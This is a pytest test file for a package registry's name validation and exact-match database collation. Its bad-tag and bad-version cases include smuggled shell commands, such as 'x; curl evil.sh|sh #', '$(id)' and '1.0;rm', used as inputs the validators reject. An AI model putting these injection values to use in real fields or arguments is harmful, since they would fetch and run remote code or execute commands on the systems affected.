"""The name rules (registry.names), and that the database compares names exactly."""

from __future__ import annotations

import pytest
from sqlalchemy import select, text

from registry import names
from registry.db import Base, ExactString, make_engine, make_session_factory
from registry.errors import BadRequest
from registry.models import User
from registry.services import users


def message(check, value) -> str:
    with pytest.raises(BadRequest) as raised:
        check(value)
    return raised.value.message


@pytest.mark.parametrize("name", ["a", "alice", "bob_2", "a" * 64])
def test_good_usernames(name):
    assert names.is_username(name)
    names.check_username(name)


@pytest.mark.parametrize("name", ["", "Alice", "1bob", "_bob", "bob-x", "bob\n", "bob ", " bob", "bob\x00",
                                  "böb", "bob\u0130", "a" * 65, None, 7])
def test_bad_usernames(name):
    assert not names.is_username(name)
    assert message(names.check_username, name) == (
        "Username is not valid. Use 1-64 lowercase letters, digits and underscores, starting with a letter.")


def test_username_pattern_is_whole_even_with_match():
    # Callers elsewhere use USERNAME_RE.match: `\Z` keeps that from accepting a trailing newline.
    assert names.USERNAME_RE.match("alice\n") is None and users.USERNAME_RE.match("alice\n") is None
    assert names.USERNAME_RE.match("alice") is not None


@pytest.mark.parametrize("name", ["blobs", "Blobs", "b", "b_1", "B" * 64])
def test_good_package_names(name):
    assert names.is_package_name(name)


@pytest.mark.parametrize("name", ["blobs\n", "blobs ", "1bad", "_x", "bad-name", "bad.name", "bløbs", "b\u0660",
                                  "B" * 65, "", "blobs\x00"])
def test_bad_package_names(name):
    assert not names.is_package_name(name)
    assert message(names.check_package_name, name) == "Invalid package name"


def test_handles():
    assert names.is_handle("alice", "Pub")
    assert not names.is_handle("alice", "pub ")
    assert not names.is_handle("Alice", "pub")
    assert not names.is_handle("alice\n", "pub")


@pytest.mark.parametrize("name", ["latest", "stable", "v1.0", "2024-01-02", "rc_1", "0", "a" * 64, "A.b-c_d"])
def test_good_tag_names(name):
    assert names.is_tag_name(name)
    names.check_tag_name(name)


@pytest.mark.parametrize("name", ["latest ", " latest", "x; curl evil.sh|sh #", "a\x00b", "\x00", "tag\n",
                                  "-rf", ".hidden", "..", "a/b", "$(id)", "`id`", "a'b", "\ufffd", "lätest",
                                  "la\u200btest", ""])
def test_bad_tag_names(name):
    assert not names.is_tag_name(name)
    assert message(names.check_tag_name, name) == (
        "Invalid tag name. Use 1-64 letters, digits, '.', '_' and '-', starting with a letter or digit.")


def test_long_tag_names_keep_their_message():
    assert message(names.check_tag_name, "t" * 65) == "Tag names are at most 64 characters"


@pytest.mark.parametrize("written, expected", [
    ("1.0", ("1.0", "1.0")), ("  1\t", ("1", "1")), ("2.0pre1", ("2.0rc1", "2.0pre1")),
    ("1.0.0-alpha", ("1.0.0a0", "1.0.0-alpha")), ("01.02", ("1.2", "01.02")), ("v1.0", ("1.0", "v1.0")),
    ("1!2.0rc1.post3.dev4+Local-X_y", ("1!2.0rc1.post3.dev4+local.x.y", "1!2.0rc1.post3.dev4+Local-X_y")),
])
def test_versions_are_normalised_and_kept_as_written(written, expected):
    assert names.parse_version(written) == expected


@pytest.mark.parametrize("written", ["foo", "1x", "1. 0", "", "1.0\x00", "1.0+\u212a", "\u30001.0", "1.0\u3000",
                                     "1.0;rm", "\ufffd"])
def test_malformed_versions(written):
    assert message(names.parse_version, written) == "Malformed version"


@pytest.mark.parametrize("written", ["1." + "0" * 63, "1-" + "1" * 61])  # 65 long; 63 long, 67 normalised
def test_long_versions(written):
    assert message(names.parse_version, written) == "Versions are at most 64 characters"


def test_every_name_column_compares_exactly(clean_database):
    """NO PAD and binary on MariaDB/MySQL; SQLite's BINARY collation is exact by itself."""
    engine = make_engine(clean_database)
    try:
        name_columns = {(table.name, column.name) for table in Base.metadata.tables.values()
                        for column in table.columns if isinstance(column.type, ExactString)}
        assert {("user", "name"), ("package", "name"), ("tag", "name"), ("version", "version")} <= name_columns
        with engine.connect() as connection:
            if connection.dialect.name != "sqlite":
                rows = connection.execute(text(
                    "SELECT table_name, column_name, collation_name FROM information_schema.columns "
                    "WHERE table_schema = DATABASE()")).all()
                collation = "utf8mb4_nopad_bin" if connection.dialect.is_mariadb else "utf8mb4_0900_bin"
                found = {(table, column): value for table, column, value in rows}
                assert {column: found[column] for column in name_columns} == dict.fromkeys(name_columns, collation)
        with make_session_factory(engine)() as session:
            session.add_all([User(name="alice"), User(name="alice ")])  # distinct rows under the unique key
            session.commit()
            assert session.scalars(select(User.name).where(User.name == "alice")).all() == ["alice"]
            assert session.scalars(select(User.name).where(User.name == "alice ")).all() == ["alice "]
    finally:
        engine.dispose()
